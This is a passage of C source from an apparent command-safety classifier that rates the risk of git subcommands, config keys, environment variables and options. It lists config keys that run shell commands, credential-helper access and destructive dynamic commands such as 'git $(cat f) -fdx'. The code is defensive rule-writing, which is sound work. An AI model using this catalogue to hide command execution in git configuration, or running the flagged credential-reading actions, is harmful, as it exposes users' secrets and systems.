	GO("range-diff"), GR("status"), GF("blame", g_blame), GF("annotate", g_blame), GR("shortlog"),
	GR("describe"), GR("rev-parse"), GR("rev-list"), GR("ls-files"), GR("ls-tree"),
	GF("cat-file", g_show), GF("grep", g_grep), GR("name-rev"), GR("merge-base"), GR("count-objects"),
	GR("check-ignore"), GR("check-attr"), GR("for-each-ref"), GR("show-ref"), GR("var"),
	GR("version"), GR("help"), GR("cherry"), GR("fsck"), GR("diff-tree"), GR("diff-files"),
	GR("diff-index"), GR("verify-commit"), GR("verify-tag"), GR("show-branch"),
	GR("--version"), GR("--help"), GF("hash-object", g_store), GO("bugreport"),
	GF("branch", g_branch), GF("tag", g_tag), GF("remote", g_remote), GF("config", g_config),
	GF("stash", g_stash), GF("push", g_push), GF("reset", g_reset), GF("clean", g_clean),
	GF("checkout", g_checkout), GF("restore", g_restore), GF("switch", g_switch),
	GF("gc", g_gc), GF("prune", g_gc), GF("reflog", g_gc), GF("clone", g_clone),
	GF("fetch", g_fetch), GF("pull", g_fetch), GF("ls-remote", g_fetch),
	GF("submodule", g_submodule), GF("difftool", g_difftool),
	{"add", TIER_MEDIUM, "git.write", "changes the repository or the working tree", g_store}, GW("commit"), GW("merge"), GF("rebase", g_rebase), GW("cherry-pick"), GW("revert"),
	GW("am"), GF("apply", g_apply), GF("init", g_init), GW("notes"), GF("worktree", g_worktree),
	GF("bisect", g_bisect), GF("bundle", g_bundle), GF("merge-file", g_merge_file),
	GF("rm", g_rm),
	GF("mv", g_mv), GW("sparse-checkout"), GW("replace"), GW("update-index"), GW("mergetool"),
	GF("read-tree", g_read_tree), GF("checkout-index", g_checkout_index), GF("update-ref", g_update_ref), GW("symbolic-ref"),
	GF("lfs", g_lfs), GF("maintenance", g_maintenance), GW("repack"), GW("pack-refs"), GW("commit-tree"),
	GF("filter-branch", g_filter_branch),
	{"filter-repo", TIER_HIGH, "git.history.rewrite", "rewrites the whole history", NULL},
	GF("send-email", g_send_email),
	{"imap-send", TIER_HIGH, "net.upload", "uploads patches to an IMAP folder", NULL},
	GF("svn", g_bridge), GF("p4", g_bridge),
	{"credential", TIER_HIGH, "secrets.read", "reads or changes stored git credentials", NULL},
	{"credential-store", TIER_HIGH, "secrets.read", "reads or changes stored git credentials",
	 NULL},
	{"credential-cache", TIER_HIGH, "secrets.read", "reads or changes cached git credentials",
	 NULL},
	{"request-pull", TIER_HIGH, "net.fetch", "contacts a remote", NULL},
	/* the plumbing under push and fetch */
	{"send-pack", TIER_HIGH, "git.push", "publishes commits to a remote (push's plumbing)", NULL},
	{"http-push", TIER_HIGH, "git.push", "publishes commits to a remote over HTTP", NULL},
	{"fetch-pack", TIER_HIGH, "net.fetch", "downloads objects from a remote", NULL},
	{"http-fetch", TIER_HIGH, "net.fetch", "downloads objects from a remote", NULL},
	{"daemon", TIER_HIGH, "net.listen", "serves the repository on the network", NULL},
	{"instaweb", TIER_HIGH, "net.listen", "serves the repository on the network", NULL},
	{"archive", TIER_LOW, NULL, NULL, g_archive},
};

/* Config keys whose value is a command line git runs through the shell
 * (a leading '!' on alias and credential.helper says so). */
static const char *const cmd_keys[] = {"core.fsmonitor", "core.pager", "core.editor",
	"core.sshcommand", "core.askpass", "sequence.editor", "diff.external", "gpg.program",
	"credential.helper", "interactive.difffilter", "alias.", "pager.", "core.gitproxy",
	"core.alternaterefscommand", "uploadpack.packobjectshook", "gpg.ssh.defaultkeycommand",
	"sendemail.tocmd", "sendemail.cccmd", "sendemail.sendmailcmd"};
/* credential.URL.helper, gpg.ssh.program and the like end so */
static const char *const cmd_suffixes[] = {".textconv", ".clean", ".smudge", ".process",
	".driver", ".command", ".cmd", ".helper", ".program"};

static bool cmd_key(const char *k, size_t n)
{
	for (size_t i = 0; i < nitems(cmd_keys); i++) {
		size_t l = strlen(cmd_keys[i]);
		if (n >= l && strncasecmp(k, cmd_keys[i], l) == 0 && (n == l || k[l - 1] == '.'))
			return true;
	}
	for (size_t i = 0; i < nitems(cmd_suffixes); i++) {
		size_t l = strlen(cmd_suffixes[i]);
		if (n > l && strncasecmp(k + n - l, cmd_suffixes[i], l) == 0)
			return true;
	}
	return false;
}

/* Keys whose value is only a command line git runs through the shell,
 * as GIT_EDITOR, GIT_SEQUENCE_EDITOR and GIT_PAGER are: a literal value
 * judged as a script says all the key does. Not alias.* (without '!' a
 * git command line), credential.helper (a helper's name) or
 * core.fsmonitor (true starts git's daemon). */
static const char *const editor_keys[] = {"core.editor", "sequence.editor", "core.pager"};

static bool editor_key(const char *k, size_t n)
{
	for (size_t i = 0; i < nitems(editor_keys); i++)
		if (n == strlen(editor_keys[i]) && strncasecmp(k, editor_keys[i], n) == 0)
			return true;
	return n > 6 && strncasecmp(k, "pager.", 6) == 0;
}

/* KEY=VALUE given to git for this run (git -c, GIT_CONFIG_KEY_n and
 * _VALUE_n): git.config_override unless the key cannot run anything; a
 * command-line value is judged as a script. */
static void config_pair(struct cctx *x, const struct word *w, const char *key, size_t n,
                        const char *val)
{
	bool literal = val && !(w->flags & (W_DYNAMIC | W_GLOB));

	/* safe.directory runs nothing from a repository's own config, which
	 * git ignores for it; from the command line it opens repositories
	 * owned by other users, whose fsmonitor and hooks then run */
	if (safe_key(key, n) && !(n == 14 && strncasecmp(key, "safe.directory", 14) == 0))
		return;
	/* `git -c sequence.editor=: rebase -i` is GIT_SEQUENCE_EDITOR=:, which
	 * was medium while this was high: the value is judged instead */
	if (!(literal && editor_key(key, n)))
		cls_add(x, TIER_HIGH, "git.config_override", shell_span_word(x, w),
		        "setting %.*s for git can make it run another program", (int)n, key);
	if (literal && cmd_key(key, n)) {
		val += val[0] == '!';
		shell_script_text(x, val, strlen(val), shell_span_word(x, w));
	}
}

/* Variables that point git at other configuration, or at another
 * repository (whose config, fsmonitor included, and hooks it then uses). */
static const char *const config_env[] = {"GIT_CONFIG_SYSTEM", "GIT_CONFIG_PARAMETERS",
                                         "GIT_CONFIG", "GIT_DIR", "GIT_COMMON_DIR"};

static bool env_overrides(const char *name, size_t n)
{
	for (size_t i = 0; i < nitems(config_env); i++)
		if (strlen(config_env[i]) == n && strncmp(name, config_env[i], n) == 0)
			return true;
	return false;
}

/* Variables that hand git configuration for this run: each
 * GIT_CONFIG_KEY_n with its GIT_CONFIG_VALUE_n, as git -c; a config file or
 * parameter list it reads (GIT_CONFIG_SYSTEM, GIT_CONFIG_PARAMETERS). */
static void git_env(struct cctx *x, const struct cmdv *c)
{
	const struct word *w;
	size_t i = 0, n;

	while ((w = rules_env_next(c, &i, &n)) != NULL) {
		char name[64];
		if (n > 15 && strncmp(w->val, "GIT_CONFIG_KEY_", 15) == 0) {
			snprintf(name, sizeof(name), "GIT_CONFIG_VALUE_%.*s", (int)(n - 15), w->val + 15);
			config_pair(x, w, w->val + n + 1, strlen(w->val + n + 1), rules_env(c, name, NULL));
		} else if (n == 13 && strncmp(w->val, "GIT_WORK_TREE", 13) == 0) {
			git_tree_set(x, w, w->val + n + 1);
		} else if (env_overrides(w->val, n)) {
			cls_add(x, TIER_HIGH, "git.config_override", shell_span_word(x, w),
			        "%.*s makes git read configuration (or a repository's config and "
			        "hooks) that can run programs",
			        (int)n, w->val);
		}
	}
}

void rules_git_export(struct cctx *x, const struct word *w, size_t n)
{
	bool keys = n > 11 && strncmp(w->val, "GIT_CONFIG_", 11) == 0 &&
	            !(n == 16 && strncmp(w->val, "GIT_CONFIG_COUNT", 16) == 0);

	if (keys || env_overrides(w->val, n) || (n == 13 && strncmp(w->val, "GIT_WORK_TREE", 13) == 0))
		cls_add(x, TIER_HIGH, "git.config_override", shell_span_word(x, w),
		        "exporting %.*s points every later git at other configuration, a "
		        "repository (whose config and hooks can run programs) or work tree",
		        (int)n, w->val);
}

/* Global options before the subcommand; returns its index or c->n. */
static size_t git_globals(struct cctx *x, struct cmdv *c)
{
	size_t i = 1;
	for (; i < c->n; i++) {
		const char *a = c->w[i].val, *eq;
		if (a[0] != '-')
			return i;
		if (strcmp(a, "-c") == 0 && i + 1 < c->n) {
			a = c->w[++i].val;
			eq = strchr(a, '=');
			config_pair(x, &c->w[i], a, eq ? (size_t)(eq - a) : strlen(a), eq ? eq + 1 : NULL);
		} else if (strcmp(a, "-C") == 0 && i + 1 < c->n) {
			char abs[CLS_MAX_PATH];
			i++;
			x->cwd = paths_resolve(x, c->w[i].val, abs, sizeof(abs))
			             ? arena_strndup(x->a, abs, strlen(abs)) : NULL;
		} else if (strncmp(a, "--exec-path=", 12) == 0 || strncmp(a, "--config-env", 12) == 0) {
			cls_add(x, TIER_HIGH, "git.config_override", shell_span_word(x, &c->w[i]),
			        "%s can make git run another program", a);
		} else if (strncmp(a, "--git-dir", 9) == 0 && (a[9] == '\0' || a[9] == '=')) {
			cls_add(x, TIER_HIGH, "git.config_override", shell_span_word(x, &c->w[i]),
			        "%s makes git use another repository, whose config and hooks can "
			        "run programs",
			        a);
			i += a[9] == '\0';
		} else if (opt_long_is(a, "--work-tree", &eq)) {
			if (eq == NULL && i + 1 < c->n)
				i++;
			git_tree_set(x, &c->w[i], eq ? eq : c->w[i].val);
		} else if (strcmp(a, "--namespace") == 0) {
			i++;
		}
	}
	return i;
}

/*
 * A subcommand only known at run time (git $(cat f) -fdx) may be any of
 * them, and an expansion after one that options make destructive (git
 * reset "$opt") may be --hard: either is read as the worst,
 * exec.dynamic_command. Returns true when the subcommand is not known.
 */
static bool git_dynamic(struct cctx *x, const struct cmdv *sub)
{
	static const char *const by_option[] = {"reset", "checkout", "switch", "restore", "stash",
	                                        "branch", "tag", "clean", "worktree", "rm", NULL};
	const struct word *w0 = &sub->w[0];

	if (w0->flags & (W_DYNAMIC | W_GLOB)) {
		cls_add(x, TIER_HIGH, "exec.dynamic_command", shell_span_word(x, w0),
		        "the git subcommand '%s' is only known at run time", w0->val);
		return true;
	}
	for (size_t i = 0; by_option[i]; i++) {
		if (strcmp(w0->val, by_option[i]) != 0)
			continue;
		for (size_t k = 1; k < sub->n; k++)
			if (sub->w[k].flags & W_DYNAMIC) {
				cls_add(x, TIER_HIGH, "exec.dynamic_command", shell_span_word(x, &sub->w[k]),
				        "git %s's options are only known at run time: '%s' may be "
				        "one that discards work",
				        w0->val, sub->w[k].val);
				break;
			}
	}
	return false;
}

static void git_judge(struct cctx *x, struct cmdv *c)
{
	size_t at = git_globals(x, c);

	git_env(x, c);
	struct cmdv sub = *c;

	if (at >= c->n)
		return;
	sub.w = c->w + at;
	sub.n = c->n - at;
	if (git_dynamic(x, &sub))
		return;
	for (size_t i = 0; i < nitems(gsubs); i++) {
		if (gsubs[i].name[0] != sub.w[0].val[0] || strcmp(gsubs[i].name, sub.w[0].val) != 0)
			continue;
		if (gsubs[i].rule)
			cls_add(x, gsubs[i].tier, gsubs[i].rule, shell_span_words(x, c->w, c->n), "%s",
			        gsubs[i].why);
		if (gsubs[i].rule && strcmp(gsubs[i].rule, "git.write") == 0)
			git_where(x, &sub);
		if (gsubs[i].fn)
			gsubs[i].fn(x, &sub);
		return;
	}
	if (strncmp(sub.w[0].val, "credential-", 11) == 0) /* git-credential-libsecret, -manager */
		cls_add(x, TIER_HIGH, "secrets.read", shell_span_words(x, c->w, c->n),
		        "git %s is a credential helper: it reads or changes stored credentials",
		        sub.w[0].val);
	else
		cls_add(x, x->o->unknown_program, "exec.unknown_program", shell_span_word(x, &sub.w[0]),
		        "git %s is not a subcommand airlock knows (an alias can run anything)",
		        sub.w[0].val);
}

/* git -C DIR and --work-tree DIR hold for this git command alone (and
 * a git run by one of its -c values has its own). */
static void rule_git(struct cctx *x, struct cmdv *c)
{
	const char *cwd = x->cwd, *tree = x->git_tree;

	x->git_tree = NULL;
	git_judge(x, c);
	x->cwd = cwd;
	x->git_tree = tree;
}

const struct prog rules_git[] = {
	{"git", 0, NULL, TIER_LOW, NULL, NULL, rule_git},
};
const size_t rules_git_n = nitems(rules_git);
